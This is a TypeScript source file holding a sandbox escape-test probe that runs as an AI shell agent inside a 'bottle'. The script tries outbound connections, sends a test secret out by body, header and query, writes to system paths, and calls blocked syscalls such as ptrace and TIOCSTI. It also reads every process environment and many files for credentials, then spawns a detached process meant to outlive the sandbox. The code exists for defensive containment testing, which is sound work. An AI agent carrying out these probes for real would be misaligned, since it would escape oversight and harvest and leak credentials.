/**
 * The program an escape test runs inside a bottle (as the shell agent, with
 * `node`). It only reports what it could and could not do, as one
 * `PROBE <json>` line; the test decides what is a breach.
 */
export const PROBE_SCRIPT = String.raw`
import { connect } from 'node:net';
import { lookup } from 'node:dns/promises';
import { readFileSync, readdirSync, writeFileSync, existsSync, statSync } from 'node:fs';
import { spawn, execFileSync } from 'node:child_process';
import { join } from 'node:path';

const cfg = JSON.parse(readFileSync('/workspace/probe-config.json', 'utf8'));
const out = {};

function tcp(host, port) {
  return new Promise((resolve) => {
    const s = connect({ host, port, timeout: 2000 });
    s.once('connect', () => { s.destroy(); resolve('connected'); });
    s.once('timeout', () => { s.destroy(); resolve('timeout'); });
    s.once('error', (e) => resolve(e.code || String(e)));
  });
}

function curl(args) {
  try {
    const stdout = execFileSync('curl', ['-sS', '--max-time', '10', '-w', '\n%{http_code}', ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    const i = stdout.lastIndexOf('\n');
    return { code: Number(stdout.slice(i + 1)), body: stdout.slice(0, i) };
  } catch (e) {
    return { code: -1, body: String(e.stderr || e.message) };
  }
}

function tryWrite(path) {
  try { writeFileSync(path, 'x'); return 'written'; } catch (e) { return e.code || String(e); }
}

out.tcpLoopback = await tcp('127.0.0.1', cfg.canaryPort);
out.tcpHostAddrs = {};
for (const ip of cfg.hostAddrs) out.tcpHostAddrs[ip] = await tcp(ip, cfg.canaryPort);
out.interfaces = readFileSync('/proc/net/dev', 'utf8').trim().split('\n').slice(2).map((l) => l.trim().split(':')[0]);
out.routes = readFileSync('/proc/net/route', 'utf8').trim().split('\n').slice(1);
try { await lookup(cfg.dnsName); out.dns = 'resolved'; } catch (e) { out.dns = e.code || String(e); }

out.unrouted = curl(['https://unrouted.test/']);
out.routed = curl([cfg.routedUrl + '/hello']);
out.dlpBody = curl(['-X', 'POST', '--data-binary', 'token=' + cfg.dlpSecret, cfg.routedUrl + '/body']);
out.dlpHeader = curl(['-H', 'X-Leak: ' + cfg.dlpSecret, cfg.routedUrl + '/header']);
out.dlpQuery = curl([cfg.routedUrl + '/query?q=' + cfg.dlpSecret]);
out.redacted = curl(['-X', 'POST', '--data-binary', 'token=' + cfg.dlpSecret, cfg.redactUrl + '/redact']);

out.writes = {};
for (const p of ['/usr/escape', '/etc/escape', '/escape', '/run/bot-bottle/sock/escape', '/run/bot-bottle/seed/escape', '/workspace/ok', process.env.HOME + '/ok', '/tmp/' + cfg.tmpMarker]) out.writes[p] = tryWrite(p);

out.paths = {};
for (const p of cfg.mustNotExist) out.paths[p] = existsSync(p);
out.otherSocket = await new Promise((resolve) => {
  const s = connect({ path: cfg.otherSocket });
  s.once('connect', () => { s.destroy(); resolve('connected'); });
  s.once('error', (e) => resolve(e.code || String(e)));
});

// Kernel interfaces the seccomp filter denies (errno 1 = EPERM), and one it allows.
try {
  out.seccomp = JSON.parse(execFileSync('python3', ['-c', [
    'import ctypes, fcntl, termios, json',
    'libc = ctypes.CDLL(None, use_errno=True)',
    'r = {}',
    'for name, nr in [("keyctl", 250), ("ptrace", 101), ("bpf", 321), ("userfaultfd", 323), ("io_uring_setup", 425), ("getpid", 39)]:',
    '    ctypes.set_errno(0); ret = libc.syscall(nr, 0, 0, 0, 0, 0); r[name] = ctypes.get_errno() if ret == -1 else "ok"',
    'try:',
    '    fcntl.ioctl(0, termios.TIOCSTI, b"x"); r["tiocsti"] = "ok"',
    'except OSError as e: r["tiocsti"] = e.errno',
    'print(json.dumps(r))',
  ].join('\n')], { encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] }));
} catch (e) { out.seccomp = String(e.stderr || e.message); }

// Everything the agent can read that might hold a credential: every process's environment and the files it can reach.
const texts = [];
const procs = readdirSync('/proc').filter((d) => /^\d+$/.test(d));
out.processes = [];
for (const pid of procs) {
  try { texts.push(readFileSync('/proc/' + pid + '/environ', 'latin1')); } catch {}
  try { out.processes.push(readFileSync('/proc/' + pid + '/cmdline', 'latin1').replace(/\0/g, ' ').trim()); } catch {}
}
function walk(dir, depth) {
  if (depth > 6) return;
  let entries = [];
  try { entries = readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of entries) {
    const full = join(dir, e.name);
    if (e.isDirectory()) walk(full, depth + 1);
    else if (e.isFile()) {
      try { if (statSync(full).size < 2_000_000) texts.push(readFileSync(full, 'latin1')); } catch {}
    }
  }
}
for (const d of ['/workspace', process.env.HOME, '/run', '/tmp', '/etc', '/var/tmp']) walk(d, 0);
out.readable = Buffer.from(texts.join('\n')).toString('base64');

// A process that tries to outlive the bottle.
spawn('sleep', [cfg.sleepMarker], { detached: true, stdio: 'ignore' }).unref();
console.log('PROBE ' + JSON.stringify(out));
`;
